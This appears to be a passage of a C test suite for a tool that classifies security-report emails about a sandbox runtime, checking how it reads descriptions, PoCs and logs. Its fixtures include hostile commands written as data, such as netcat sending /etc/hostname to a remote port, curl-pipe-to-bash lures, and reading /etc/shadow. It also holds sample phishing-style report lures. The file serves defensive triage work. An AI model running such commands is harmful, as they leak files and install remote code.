	/* (1111) a listener that only waits shows what arrived, the effect;
	 * with the guest's command that sent it, or serving a reply, it is
	 * part of a reproduction */
	{ PROSE "On my box:\n\n    $ nc -lvnp 9001\n    Listening on 0.0.0.0 9001\n"
	  "    Connection received on 192.0.2.44 40112\n    GET /?k=abc HTTP/1.1\n", 1, 0, 1 },
	{ PROSE "On my box:\n\n    $ sudo socat -v TCP-LISTEN:9001,fork -\n    GET /?k=abc HTTP/1.1\n", 1, 0, -1 },
	{ PROSE "Listener first, then the guest:\n\n    $ ncat -lk 9001\n"
	  "    $ msb run --network none alpine -- wget -qO- http://192.0.2.9:9001/\n", 1, 1, -1 },
	{ PROSE "The fake registry:\n\n    $ nc -l 8080 < redirect-307.http\n", 1, 1, -1 },
	{ PROSE "From the guest:\n\n    / # nc -w 3 192.0.2.9 4444 < /etc/hostname\n", 1, 1, -1 },
	/* (153) commands a third party hands out ("the spam tells users to
	 * run") are evidence of the lure, not the writer's run; the writer's
	 * own command under his own words still is one */
	{ PROSE "The spam we got tells users to run\n\n    curl -sSL https://msb-get.example/i | bash\n\n"
	  "Nobody here ran it.\n", 1, 0, -1 },
	{ PROSE "The fake update page asks\nvisitors to paste\n\n    curl -sSL https://msb-get.example/i | bash\n", 1, 0, -1 },
	{ PROSE "The chat bot instructs victims to execute:\n\ncurl -fsSL https://msb-get.example/i.sh | sh -s -- --yes\n", 1, 0, -1 },
	{ PROSE "I pasted this:\n\ncurl -fsSL https://msb-get.example/i.sh | sh -s -- --yes\n", 1, 1, -1 },
	{ PROSE "To see it, run\n\n    curl -sSL https://msb-get.example/i | bash\n", 1, 1, -1 },
	/* (1534) a workflow's "steps:" key over its "- uses:" and "- run:"
	 * entries is YAML, no heading of a reproduction; a prose heading over
	 * a list still is one */
	{ PROSE "Our CI job:\n\n    jobs:\n      build:\n        steps:\n          - uses: actions/checkout@v4\n"
	  "          - uses: actions/setup-node@v4\n          - run: npm test\n\nThe token is visible to the test.\n",
	  1, 0, -1 },
	{ PROSE "Steps:\n\n  - open the team page as a viewer\n  - pick the token list\n  - read another member's key\n",
	  1, 1, -1 },
};

/* Issue #3: the type of each line (P prose, C command, O output, K code,
 * M comment, - blank), and whether it continues a list item ('i'
 * after it).  An indented numbered or bulleted list reads as one flush
 * left does; an indented block (Markdown's four-space code, a command's
 * output, a log, YAML, a root prompt) stays a block. */
static const struct {
	const char *text;
	const char *types;   /* one letter a line, 'i' after an item's */
} line_cases[] = {
	/* (1769) a notebook cell: its further lines indented under its code
	 * are code, a line further left is what it printed */
	{ "In [2]: r = await sb.run(\"id\")\n        print(await r.output())\nuid=0(root) gid=0(root)\n", "C C O" },
	/* lists indented two, four spaces, a tab; the same flush left */
	{ "Steps:\n  1. Open a guest\n  2. Read the file\n", "P Pi Pi" },
	{ "Steps:\n    1. Open a guest\n    2. Read the file\n", "P Pi Pi" },
	{ "Steps:\n\t1. Open a guest\n\t2. Read the file\n", "P Pi Pi" },
	{ "Steps:\n1. Open a guest\n2. Read the file\n", "P Pi Pi" },
	{ "Steps:\n\n  - open a guest\n  - read the file\n", "P - Pi Pi" },
	/* an item holding an indented command, the next item stepping back out */
	{ "  1. Start one:\n       msb run --rm alpine\n  2. Look at /etc:\n       ls -la /etc\n",
	  "Pi Ci Pi Ci" },
	{ "1. Start one:\n     msb run --rm alpine\n2. Look at /etc.\n", "Pi Ci Pi" },
	/* a list nested under a bullet */
	{ "- Setup\n  - start a guest\n  - mount the share\n- Result\n  - the host file is read\n",
	  "Pi Pi Pi Pi Pi" },
	/* blocks: output with markers after a prompt, YAML, a root prompt */
	{ "    $ msb ls\n    - sbx-north running\n    - sbx-south running\n", "C O O" },
	{ "$ msb ls\n  - sbx-north running\n", "C O" },
	{ "Config:\n\n    - name: web\n      image: alpine\n", "P - O K" },
	{ "    # cat /etc/shadow\n    root:x:19000:0:99999:7:::\n", "C O" },
	{ "Log:\n\n  2026-11-30T10:00:01Z ERROR vsock: refused\n  - retrying\n", "P - O O" },
	/* a log line behind a number is the log's */
	{ "Log:\n\n  1. [  12.345] virtiofs: mount failed\n", "P - O" },
	/* (1223) above a block's first prompt nothing was printed yet: the
	 * host's command that opens the guest's shell is one; below a
	 * prompt an unprompted line is still its output */
	{ "    FOO=1 msb run -it alpine:3.20 sh\n    / # cat /etc/hostname\n    sbx-1\n", "C C O" },
	{ "    docker run --rm -it alpine sh\n    / # id\n    uid=0(root) gid=0(root)\n", "C C O" },
	{ "    $ msb --version\n    msb 0.9.4\n    curl -s http://x/\n", "C O O" },
	/* (1284) a Python with-statement's header is code wherever it
	 * stands, and so is "while True:"; a wrapped sentence that opens with
	 * "with" is not */
	{ "with tarfile.open(fileobj=buf, mode=\"w\") as t:\n", "K" },
	{ "async with client.session() as s, lock:\n", "K" },
	{ "while True:\n", "K" },
	{ "with sudo as root:\n", "P" },
	/* (1531) a here-document's body and its delimiter line are input
	 * (code), the command after it a command again, its output output */
	{ "    $ cat > /var/tmp/h <<'EOF'\n    id\n    uid=0(root)\n    EOF\n    $ sh /var/tmp/h\n    uid=0(root)\n",
	  "C K K K C O" },
	{ "    $ cat <<EOF > /var/tmp/h\n    > echo hi\n    > EOF\n    $ cat /var/tmp/h\n    echo hi\n", "C K K C O" },
	/* no delimiter line: the lines are read as they are */
	{ "    $ cat > /var/tmp/h <<EOF\n    uid=0(root)\n", "C O" },
	/* (1573) a label for whom or where a command runs, with a colon or
	 * in brackets, is no output; "as expected:" and a bracketed note
	 * before words are not such a label */
	{ "    as alice:  msb run --name n alpine\n               (inside) touch /root/mark\n"
	  "    as user bob: msb snapshot ls\n", "C C C" },
	{ "    (guest) cat /mnt/shared/a\n    (as root) id\n    (on sbx-2) ls -la /data\n", "C C C" },
	{ "    as expected: cat printed nothing\n    (inside) 3 files\n", "O O" },
	{ "As shown: ls lists both snapshots.\n", "P" },
	/* a program run by its path with variables set for it, or its
	 * arguments continued on the next line, is a command; env's own
	 * output (a variable alone on its line) is not */
	{ "    PATH=/var/tmp/q:$PATH /opt/tool/bin/netctl \\\n        --up wg0\n    cat /var/tmp/q/log\n",
	  "C C C" },
	{ "    env LD_PRELOAD=/var/tmp/hook.so /usr/bin/newgrp staff\n", "C" },
	{ "    /usr/local/sbin/vmnet-tool \\\n      --bridge en0\n", "C C" },
	{ "    msb exec b1 -- env\n    HOME=/root\n    PATH=/usr/local/bin:/usr/bin\n", "C O O" },
};

static void
test_line_types(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	static const char letter[] = { '-', 'P', 'C', 'C', 'K', 'M', 'O', 'F' };

	for (gsize i = 0; i < G_N_ELEMENTS(line_cases); i++) {
		g_autofree char *text = g_strdup(line_cases[i].text);
		Lines ls;
		st_x_lines_init(&ls, rules, text);
		g_autoptr(GString) got = g_string_new(NULL);
		for (guint k = 0; k < ls.n; k++) {
			const Line *l = &ls.l[k];
			if (k + 1 == ls.n && l->type == L_BLANK && l->s[0] == '\0')
				break;  /* the empty piece after the last newline */
			if (got->len)
				g_string_append_c(got, ' ');
			g_string_append_c(got, letter[l->type]);
			if (l->in_item)
				g_string_append_c(got, 'i');
		}
		st_x_lines_clear(&ls);
		if (strcmp(got->str, line_cases[i].types) != 0)
			FAIL("line case %zu (%.50s): want \"%s\", got \"%s\"", i, line_cases[i].text,
			     line_cases[i].types, got->str);
	}
}

static void
test_checklist(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();

	for (gsize i = 0; i < G_N_ELEMENTS(checks); i++) {
		g_autoptr(StAnalysis) a = analyse(rules, NULL, checks[i].body, NULL);
		int got[3] = { a->check[ST_CHECK_DESCRIPTION], a->check[ST_CHECK_POC], a->check[ST_CHECK_LOGS] };
		int want[3] = { checks[i].description, checks[i].poc, checks[i].logs };
		for (int k = 0; k < 3; k++)
			if (want[k] >= 0 && got[k] != want[k])
				FAIL("checklist case %zu item %d (%.60s): got %d", i, k,
					checks[i].body + (checks[i].body[0] == 'T' ? strlen(PROSE) : 0), got[k]);
		for (int k = 0; k < ST_CHECK_N; k++)
			if (a->check[k])
				g_assert_nonnull(a->check_evidence[k]);
	}
}

/* Issue #3: a capture on the host is the evidence and the script that made
 * the guest send the packets the reproduction: announced as attached and
 * left behind, the mail has none; attached in fact, it has one. */
static void
test_poc_observe_attached(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	static const char body[] = PROSE "From the host, while the guest ran my sender:\n\n"
		"    $ sudo tcpdump -nni br0 icmp\n"
		"    10:00:01.1 IP 192.0.2.10 > 198.51.100.7: ICMP echo request, id 9, seq 1, length 64\n\n"
		"The sender (ping_tunnel.py) comes with this mail.\n";
	static const Att script[] = {
		{ "ping_tunnel.py", "text/x-python", "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\n" },
		{ NULL }
	};
	g_autoptr(StAnalysis) forgot = analyse(rules, NULL, body, NULL);
	g_autoptr(StAnalysis) sent = analyse(rules, NULL, body, script);

	g_assert_false(forgot->check[ST_CHECK_POC]);
	g_assert_true(forgot->check[ST_CHECK_LOGS]);
	g_assert_true(sent->check[ST_CHECK_POC]);
}

/* The reproduction said to be in an attached script (1593): forgotten,
 * the mail shows only the check of the result, no PoC; attached in fact,
 * the script is the PoC. */
static void
test_poc_in_attachment(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	static const char body[] = PROSE "Steps to reproduce are in the attached script (it stops "
		"the sandbox after swapping the hook). Then on the host:\n\n"
		"    $ stat -c '%U %n' /var/tmp/hook-ran\n    root /var/tmp/hook-ran\n";
	static const Att script[] = {
		{ "swap_hook.sh", "application/x-sh", "#!/bin/sh\nmsb run -v /:/h alpine -- sh -c 'echo id > /h/hook'\n" },
		{ NULL }
	};
	g_autoptr(StAnalysis) forgot = analyse(rules, NULL, body, NULL);
	g_autoptr(StAnalysis) sent = analyse(rules, NULL, body, script);

	g_assert_false(forgot->check[ST_CHECK_POC]);
	g_assert_true(forgot->check[ST_CHECK_LOGS]);
	g_assert_true(sent->check[ST_CHECK_POC]);
}

/* A report told in plain words beside its evidence ([description]
 * evidence_sentences): what happened, in sentences no phrase list knows,
 * with the commands and what they printed.  One or two lines around a
 * script, questions, and prose without a PoC or logs are not. */
#define TOLD "Hi,\n\nWe run a small tutoring service and give every pupil a sandbox of " \
	"their own. Last week a pupil told me that her essay had turned up in the " \
	"sandbox of the boy who sits next to her. I tried it again with two test pupils " \
	"from our club and it happened again, even after the first sandbox was stopped " \
	"and removed. We told the parents that the work of each child stays with that " \
	"child and is not shared.\n\n"
#define TOLD_CMDS "  $ msb run --name p1 python -- sh -c 'echo essay > /work/essay.txt'\n" \
	"  $ msb rm p1\n  $ msb run --name p2 python -- cat /work/essay.txt\n  essay\n"

static const struct {
	const char *body;
	int description;
	gboolean by_structure;  /* the evidence must be this mechanism's */
} told[] = {
	/* (1837) a secret that lands in a log service many people read is what
	 * the flaw costs, in English and German; a retry counter landing there
	 * is no impact */
	{ "Hello,\n\nWhen the Python client retries a request it copies the full retry details to the "
	  "standard logger, and it does not mask anything. Our bearer token therefore lands in Sentry "
	  "with every retry, and forty people in support browse those events daily.\n", 1, FALSE },
	{ "Hello,\n\nWhen the Python client retries a request it copies the full retry details to the "
	  "standard logger, and it does not mask anything. Our retry counter therefore lands in Sentry "
	  "with every retry, and forty people in support browse those events daily.\n", 0, FALSE },
	{ "Hallo,\n\nwir haben ein Problem mit dem Node-Client gefunden: bei jedem fehlgeschlagenen "
	  "Aufruf schreibt er die kompletten Header in die Fehlermeldung. Der API-Schl\xc3\xbcssel landet "
	  "dadurch in Datadog, wo sechzig Leute aus dem Support mitlesen.\n", 1, FALSE },
	{ TOLD TOLD_CMDS, 1, TRUE },
	/* one line and the commands */
	{ "Hi,\n\nSee below, it happened again.\n\n" TOLD_CMDS, 0, FALSE },
	/* a script and its output with two sentences around it (devset 12) */
	{ "Run this on 0.8.4, it prints the file of the first pupil from the second.\n\n" TOLD_CMDS
	  "\nTested on Debian 12 with the latest release from the website.\n", 0, FALSE },
	/* questions, not a telling of what happened */
	{ "Hi,\n\nIs it normal that a file from one sandbox is still there in the next one? "
	  "Should I remove it by hand before every new pupil starts? Or is there an option "
	  "for that which I have missed somewhere? Would a new name for every sandbox help "
	  "with that at all?\n\n" TOLD_CMDS, 0, FALSE },
	/* prose without a PoC or logs: an invitation, not a report */
	{ "Hello,\n\nWe are organising a small workshop on running untrusted code in the "
	  "classroom next spring. Several teachers in our network use your tool with their pupils "
	  "every week. We would be glad if someone from your team could give a short talk there. "
	  "The workshop takes place at the town library and lasts one afternoon. Travel costs "
	  "would of course be covered by the school board.\n", 0, FALSE },
};

static void
test_description_told(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();

	g_assert_cmpint(st_rules_get_int(rules, "description", "evidence_sentences", 0), >, 0);
	for (gsize i = 0; i < G_N_ELEMENTS(told); i++) {
		g_autoptr(StAnalysis) a = analyse(rules, NULL, told[i].body, NULL);
		const char *ev = a->check_evidence[ST_CHECK_DESCRIPTION];
		if (a->check[ST_CHECK_DESCRIPTION] != told[i].description)
			FAIL("told case %zu: description %d (evidence %s)", i,
			     a->check[ST_CHECK_DESCRIPTION], ev ? ev : "none");
		if (told[i].by_structure && (ev == NULL || strstr(ev, "beside a PoC or logs") == NULL))
			FAIL("told case %zu: described by %s, not by its structure", i, ev ? ev : "nothing");
	}
}

/* Short but complete reports written on a phone ([description]
 * unwrap_short, issue #3): the mail app hard-wraps every sentence at 25-40
 * characters, and a line that goes on in lower case is the same sentence,
 * not a fragment ended at its line end.  What the flaw is and what it lets
 * an attacker do, in two or three short sentences, is a description; a
 * plea to call, "see attachment" and a few polite lines beside a command
 * are not. */
static const struct {
	const char *subject, *body;
	gboolean description;
} phone_desc[] = {
	/* one sandbox reaches another's files, wrapped across five lines */
	{ "Guest reaches other sandbox", "hey\n\ntried this on our lab\nbox. a program in one\n"
	  "sandbox can open the\nshared files of another\nsandbox next to it.\nso one customer reads\n"
	  "the uploads of the next.\n\n$ msb exec s1 -- cat /mnt/peer/upload.csv\nname,iban\n"
	  "bob,NL00TEST0000000000\n\nSent from my Pixel\n", TRUE },
	/* "any local account ... can copy our keys", a sentence over three lines */
	{ "tokens in cache", "hi\n\nmsb keeps the api key\nof each sandbox in a\ncache file that is 0644.\n"
	  "any local account on\nthe same machine can\ncopy our keys from it.\n\n"
	  "$ ls -l ~/.cache/msb/keys.db\n-rw-r--r-- 1 ana ana 812 keys.db\n\nSent from my iPhone\n", TRUE },
	/* French, wrapped the same way */
	{ "Fuite", "salut\n\nle sandbox peut lire\nles fichiers de l'h\xc3\xb4te\nvia le montage partag\xc3\xa9.\n"
	  "un attaquant obtient\nainsi acc\xc3\xa8s \xc3\xa0 ~/.ssh.\n\n"
	  "$ msb exec a -- cat /host/.ssh/id_ed25519\n-----BEGIN OPENSSH PRIVATE KEY-----\n\n"
	  "Envoy\xc3\xa9 de mon iPhone\n", TRUE },
	/* what must not change: no flaw told, however it is wrapped */
	{ "security", "hi\n\nthere is a security bug\nin msb, please call me\nat your earliest\n"
	  "convenience.\n\nSent from my iPhone\n", FALSE },
	{ "report", "see attachment\n\nSent from my Galaxy\n", FALSE },
	{ "Details", "Hello team\nPlease find the steps\nbelow and let me know\nwhat you think about\n"
	  "this when you have\ntime to look.\n\n$ msb run alpine -- id\nuid=0(root) gid=0(root)\n\n"
	  "Sent from my iPhone\n", FALSE },
};

/* ... and the prose they are read from: a short line that goes on in lower
 * case is joined to the next; a heading, a line ended by a full stop or a
 * colon, and a line followed by a capital or a list item are not. */
static const struct {
	const char *body, *prose;
} phone_prose[] = {
	{ "from one sandbox I can\nrun commands in\nanother one.\n",
	  "from one sandbox I can run commands in another one.\n" },
	{ "Summary\nThe guest can write\nhost files.\n", "Summary\nThe guest can write host files.\n" },
	{ "It happened twice.\nthen it stopped.\n", "It happened twice.\nthen it stopped.\n" },
	{ "Steps:\nrun the script\n", "Steps:\nrun the script\n" },
	{ "the guest can\n\nwrite files\n", "the guest can\nwrite files\n" },
};

static void
test_description_phone(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();

	g_assert_cmpint(st_rules_get_int(rules, "description", "unwrap_short", 0), >, 0);
	for (gsize i = 0; i < G_N_ELEMENTS(phone_desc); i++) {
		g_autoptr(StAnalysis) a = analyse(rules, phone_desc[i].subject, phone_desc[i].body, NULL);
		const char *ev = a->check_evidence[ST_CHECK_DESCRIPTION];
		if (a->check[ST_CHECK_DESCRIPTION] != phone_desc[i].description)
			FAIL("phone case %zu: description %d (evidence %s)", i,
			     a->check[ST_CHECK_DESCRIPTION], ev ? ev : "none");
	}
	for (gsize i = 0; i < G_N_ELEMENTS(phone_prose); i++) {
		g_autofree char *text = g_strdup(phone_prose[i].body);
		Lines ls;
		gsize body_at = 0;
		st_x_lines_init(&ls, rules, text);
		g_autofree char *prose = st_x_description_prose(&ls, "", &body_at, NULL);
		st_x_lines_clear(&ls);
		if (strcmp(prose + body_at, phone_prose[i].prose) != 0)
			FAIL("phone prose case %zu: got \"%s\"", i, prose + body_at);
	}
}

/* [description] subject_with_evidence: a body that is only a link to the
 * reproduction under a subject saying what is wrong and what it exposes is
 * described by its subject; a subject of only a version, a subject over no
 * PoC or logs, a body with prose of its own and a reply's subject are not. */
static const struct {
	const char *subject;
	const char *body;
	const char *in_reply_to;   /* NULL: a new mail */
	gboolean description;
} subject_desc[] = {
	{ "node sdk leaks the API key to code running in the sandbox",
	  "https://gist.example/kw/5d7e21c0\n(repro script in there, run it with your key set)\n", NULL, TRUE },
	{ "msb 0.8.4",
	  "https://gist.example/kw/5d7e21c0\n(repro script in there, run it with your key set)\n", NULL, FALSE },
	{ "node sdk leaks the API key to code running in the sandbox", "see the subject, thanks\n", NULL, FALSE },
	{ "Re: node sdk leaks the API key to code running in the sandbox",
	  "https://gist.example/kw/5d7e21c0\n(repro script in there, run it with your key set)\n",
	  "ack-1@superrad.company", FALSE },
};

static void
test_description_subject(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();

	for (gsize i = 0; i < G_N_ELEMENTS(subject_desc); i++) {
		g_autofree char *mail = g_strdup_printf(
			"From: r@example.org\nTo: security@superrad.company\nSubject: %s\n%s%s%s"
			"Content-Type: text/plain; charset=utf-8\n\n%s", subject_desc[i].subject,
			subject_desc[i].in_reply_to ? "In-Reply-To: <" : "",
			subject_desc[i].in_reply_to ? subject_desc[i].in_reply_to : "",
			subject_desc[i].in_reply_to ? ">\n" : "", subject_desc[i].body);
		g_autoptr(StAnalysis) a = tu_analysis_of(mail);
		st_extract(rules, a->msg, NULL, a);
		if (a->check[ST_CHECK_DESCRIPTION] != subject_desc[i].description)
			FAIL("subject case %zu (%s): description %d (evidence %s)", i,
			     subject_desc[i].subject, a->check[ST_CHECK_DESCRIPTION],
			     a->check_evidence[ST_CHECK_DESCRIPTION] ? a->check_evidence[ST_CHECK_DESCRIPTION] : "none");
	}
}

/* A mail that reports nothing of the writer's own (extract_nonreport.c
 * reports_nothing, [nonreport.*]): a question about safety, an invitation,
 * a stranger's claim retold.  It has no description, and classify.c gives
 * it no component; a short report in plain words without a PoC keeps both,
 * as does a concern the writer works out in their own words. */
static const struct {
	const char *subject;
	const char *body;
	gboolean nothing;       /* flagged "reports-nothing" */
	int description;        /* -1: do not care */
} nothing_cases[] = {
	/* the writer says in Japanese that it is no vulnerability report, in
	 * the honorific form too ("脆弱性のご報告ではございません", 1453); a
	 * Japanese report that says it is more than a bug report is one */
	{ "【ご相談】導入前の確認事項について",
	  "microsandbox ご担当者様\n\n弊社では社内の開発環境への導入を検討しております。"
	  "なお、本メールは脆弱性のご報告ではございません。"
	  "ISO 27001 の取得状況とサポート窓口をご教示いただけますでしょうか。\n\nよろしくお願いいたします。\n", TRUE, 0 },
	{ "【確認】SDK の利用規約について",
	  "お世話になっております。セキュリティ上の問題のご連絡ではありませんが、"
	  "クラウド版の利用規約についてお伺いしたく、こちらにご連絡いたしました。\n", TRUE, 0 },
	{ "ゲストからホストのファイルが読めます",
	  "お世話になっております。本件は単なる不具合の報告ではなく、脆弱性のご報告です。"
	  "ゲスト内の root から共有ディレクトリ経由でホストの /etc/shadow を読めました。\n", FALSE, -1 },
	{ "Question about using your sandbox at our school",
	  "Hello,\n\nI teach an after-school robotics group for teenagers, and another teacher told "
	  "me that microsandbox lets untrusted programs run without touching the host machine. "
	  "Is it suitable for pupils of that age, and is there any setting we must change so "
	  "nobody can damage the school computers?\n\nBest regards,\nMara\n", TRUE, 0 },
	{ "Invitation: security evening in Lisbon",
	  "Dear team,\n\nWe would like to invite someone from your project to speak at our next "
	  "security evening about sandboxes, virtual machines and running untrusted code safely. "
	  "The talk would be thirty minutes and we cover travel costs for the speaker.\n\n"
	  "Kind regards,\nJoana\n", TRUE, 0 },
	{ "Is this person with you?",
	  "Hi,\n\nSomeone wrote to our office on a chat app claiming he found a critical bug in "
	  "microsandbox that lets anyone take over our servers, and says he will only explain it "
	  "once we send him money. We run msb for a couple of small tools.\n\nDoes he work for "
	  "you? Should we take this seriously?\n\nTom\n", TRUE, 0 },
	/* three plain sentences, no PoC, no logs, no version */
	{ "Sandbox files visible to other users",
	  "Hello,\n\nWhen I start two sandboxes as different users on the same machine, the second "
	  "one can read the files the first one wrote to /tmp. This means any user on a shared host "
	  "can read another user's sandbox data, including their API keys. Is this expected?\n\n"
	  "Thanks,\nRui\n", FALSE, 1 },
	/* the evidence named only in questions, bullets as a mail client
	 * writes them, a question wrapped over an indented line (#3) */
	{ "Before we start testing",
	  "Hello,\n\nOur team plans a review of microsandbox next month and has two questions:\n\n"
	  "\xe2\x80\xa2 Should each report come with a PoC and steps to reproduce, or is a\n"
	  "  careful reading of the code enough?\n"
	  "\xe2\x80\xa2 Is the hosted cloud part of the program, or only the open-source\n"
	  "  runtime?\n\nWe have found nothing so far.\n\nThanks,\nLea\n", TRUE, 0 },
	/* worked out in the writer's own words (a theoretical report) */
	{ "Worried about shared folders",
	  "Hello,\n\nI read your documentation about shared folders. Couldn't a program inside the "
	  "sandbox replace a file in the shared folder with a link to something private on my "
	  "computer and then read it? If so, the sandbox would not be keeping anything in. "
	  "Have I misunderstood something?\n\nEva\n", FALSE, -1 },
	/* (#3) a flaw the writer found by reading the code, and the attacker's
	 * ability stated, not asked, in a mail that closes with a question */
	{ "Possible code execution in the Go SDK",
	  "Hi,\n\nI have been going through the implementation of the Go SDK and the exec helper "
	  "passes the command string to sh -c on the host. Would quoting it be enough?\n\nLin\n",
	  FALSE, -1 },
	{ "Result decoding in the SDK",
	  "Hello,\n\nLooking at result.rs I saw that the reply length from the guest is trusted "
	  "as is. Is that on purpose?\n\nMo\n", FALSE, -1 },
	{ "Unsafe eval in the TypeScript SDK",
	  "Hi,\n\nFrom the source it looks like the TypeScript SDK evals the value the guest sends "
	  "back. Is there a reason it does not parse it as JSON?\n\nSam\n", FALSE, -1 },
	{ "Guest controls the reply",
	  "Hello,\n\nThe SDK builds a shell command out of the file name the guest reports. A rogue "
	  "guest can pick a name with a semicolon in it and run commands as the host user. "
	  "Could you check?\n\nDee\n", FALSE, -1 },
	/* ... not a question whether it is safe, nor docs read before asking,
	 * nor a press question, nor the code of conduct read */
	{ "Running student code",
	  "Hello,\n\nIs it safe to run untrusted code in msb? Is it possible that a malicious "
	  "program can harm the laptop it runs on?\n\nBest,\nAnn\n",
	  TRUE, 0 },
	{ "A question about the docs",
	  "Hi,\n\nI was reading the docs and have a question: is the cloud version covered by your "
	  "security policy too?\n\nThanks,\nBo\n", TRUE, 0 },
	{ "Press enquiry: sandbox security",
	  "Dear team,\n\nI am writing a piece for a tech magazine about AI agents running code in "
	  "sandboxes. Would you be available to answer a few questions about how microsandbox keeps "
	  "the host safe?\n\nRegards,\nPia\n", TRUE, 0 },
	{ "Conference talk",
	  "Hi,\n\nI read the code of conduct of your project. May we quote it in the handbook of "
	  "our student club?\n\nCheers,\nTim\n", TRUE, 0 },
	/* the version and host the writer runs are no finding: a question
	 * whether an advisory or a talk applies to them reports nothing (#3) */
	{ "Do we need to act on the snapshot advisory?",
	  "Hello,\n\nOur platform team runs microsandbox 0.8.5 on Debian 12 hosts (kernel "
	  "6.1.0-28-amd64) for customer build jobs. Your latest release notes mention a fix for "
	  "snapshots leaking data between sandboxes. Does that affect 0.8.5 as well, and do we "
	  "have to delete the snapshots we already took?\n\nRegards,\nIlse\n", TRUE, 0 },
	{ "Podcast episode on microVM escapes",
	  "Hi,\n\nI listened to a podcast where a researcher claimed that every agent-based "
	  "microVM runtime can be escaped through its vsock channel, and microsandbox was named "
	  "among them. We have msb 0.8.7 on macOS 15.2 laptops with Apple M3 chips for our "
	  "interns. Is there anything to this, and should we stop using it until you know "
	  "more?\n\nBest,\nKofi\n", TRUE, 0 },
	/* ... while a report with a version that says what an attacker gains
	 * and asks whether it is intended stays a report */
	{ "Gateway forwards to the host's loopback",
	  "Hi,\n\nWith msb 0.8.6 on Fedora 41 the gateway address of a sandbox started with "
	  "--network none still answers on the ports the host listens on locally. Anyone who "
	  "can run code in the sandbox can talk to the host's database and admin services that "
	  "way. Is that intended?\n\nNils\n", FALSE, 1 },
	/* a notice that the message is elsewhere (a secure-mail portal, a file
	 * share): its Subject names a finding, its footer confidential data,
	 * the mail reports nothing (#3) */
	{ "Vulnerability in microsandbox sandboxes - secure message",
	  "You have received a secure message from Omar Haddad <omar@clinic.example>.\n\n"
	  "Click the button below to view the message. The link expires in 14 days.\n\n"
	  "This e-mail and any attachments are confidential and may contain personal "
	  "information. If you received it in error, delete it and notify the sender.\n", TRUE, 0 },
	{ "Sandbox escape write-up",
	  "Jana Novak (jana@studio.example) shared a document with you: \"msb escape notes\".\n\n"
	  "Open https://docs.example/d/8f2kq1 to see the document. You are receiving this "
	  "email because someone shared a file with you from the docs service.\n", TRUE, 0 },
	{ "[Encrypted] Host files readable from the guest",
	  "Lars Berg has sent you an encrypted email.\n\nTo open this email, sign in with "
	  "your address at the portal below; a one-time code will be sent to you.\n\n"
	  "https://portal.example/m/5TQx\n\nThe sender's organisation protects sensitive "
	  "data with encrypted mail.\n", TRUE, 0 },
	/* a mail client's confidential mode: the message is held back
	 * behind a passcode (1431) */
	{ "Sandbox escape findings",
	  "Priya Nair has sent you a message in confidential mode.\n\nOpen message\n\n"
	  "You will have to enter a code sent to your phone before you can read this message. "
	  "The sender can remove access at any time.\n", TRUE, 0 },
	/* the report locked behind the reader's own sign-in, the PoC named as
	 * inside it (a "secure document" lure, 1438) */
	{ "Critical: cloud API key takeover",
	  "Hello team,\n\nI have identified a critical flaw in the microsandbox cloud API that gives "
	  "full control of any organisation. The write-up, PoC and affected endpoints are in the "
	  "protected file attached. To unlock it, open the file in a browser and sign in with your "
	  "company account; only your domain can open it.\n\nRegards,\nDr. M. Stone\n", TRUE, 0 },
	{ "Vulnerability report (encrypted)",
	  "Dear security,\n\nThe details of the issue and my exploit are in the attached report. To "
	  "read the report, please verify with your Google Workspace login on the page it opens. "
	  "The link is valid for 24 hours.\n\nBest,\nK. Lund\n", TRUE, 0 },
	/* ... not a reproduction step that signs in to view what leaks (no
	 * question, no "I": only [nonreport.locked] could flag it) */
	{ "Usage page lists other organisations' sandboxes",
	  "Hi,\n\nThe Usage page of the cloud console lists the sandbox names and image tags of "
	  "other organisations, not only ours. To view it, log in with your own account and open "
	  "Settings > Usage; the names are enough to tell whom the other customers build for.\n\nSam\n", FALSE, 1 },
	/* ... while a report that also shares its write-up stays a report */
	{ "Guest can read host files through the share",
	  "Hello,\n\nI found that the file broker follows a symlink the guest places in a "
	  "shared folder, so code in the sandbox can read any file the host user can read, "
	  "including SSH keys. I have shared a document with you that has my notes. Could you "
	  "confirm you received it?\n\nAda\n", FALSE, 1 },
	/* the writer's own evidence named only in a question is asked about;
	 * named in a statement it is told (#3) */
	{ "Research on microsandbox: what may we test?",
	  "Dear security team,\n\nOur group studies microVM isolation for a thesis and would "
	  "like to include microsandbox. May we run our experiments against the hosted cloud "
	  "with our own accounts, or only on our lab machines? And would you want to see our "
	  "findings before the thesis is published?\n\nKind regards,\nAnouk\n", TRUE, 0 },
	{ "Guest reaches the host's loopback",
	  "Hello,\n\nIn our tests a sandbox started without network access still reached a "
	  "service listening on the host's loopback address through the gateway. Is this a "
	  "known limitation?\n\nPiet\n", FALSE, -1 },
	/* the reading is English: a report in another language that ends in a
	 * question is not read as one that reports nothing (French, German,
	 * Spanish), and neither is a question in another language */
	{ "Fichiers des sandboxes visibles par d'autres utilisateurs",
	  "Bonjour,\n\nQuand je lance deux sandboxes sous des utilisateurs diff\u00e9rents sur la m\u00eame "
	  "machine, la deuxi\u00e8me peut lire les fichiers que la premi\u00e8re a \u00e9crits dans /tmp. "
	  "Cela veut dire que n'importe quel utilisateur d'un h\u00f4te partag\u00e9 peut lire les donn\u00e9es "
	  "de la sandbox d'un autre, y compris ses cl\u00e9s d'API. Est-ce normal ?\n\nMerci,\nRui\n", FALSE, 1 },
	{ "Sandbox-Dateien f\u00fcr andere Benutzer sichtbar",
	  "Hallo,\n\nWenn ich zwei Sandboxen als verschiedene Benutzer auf demselben Rechner starte, kann "
	  "die zweite die Dateien lesen, die die erste nach /tmp geschrieben hat. Damit kann jeder Benutzer "
	  "eines gemeinsam genutzten Hosts die Sandbox-Daten eines anderen lesen, auch dessen "
	  "API-Schl\u00fcssel. Ist das so gewollt?\n\nDanke,\nRui\n", FALSE, 1 },
	{ "Archivos de sandbox visibles para otros usuarios",
	  "Hola:\n\nCuando inicio dos sandboxes con usuarios distintos en la misma m\u00e1quina, la segunda "
	  "puede leer los archivos que la primera escribi\u00f3 en /tmp. Esto significa que cualquier usuario "
	  "de un host compartido puede leer los datos de la sandbox de otro, incluidas sus claves de API. "
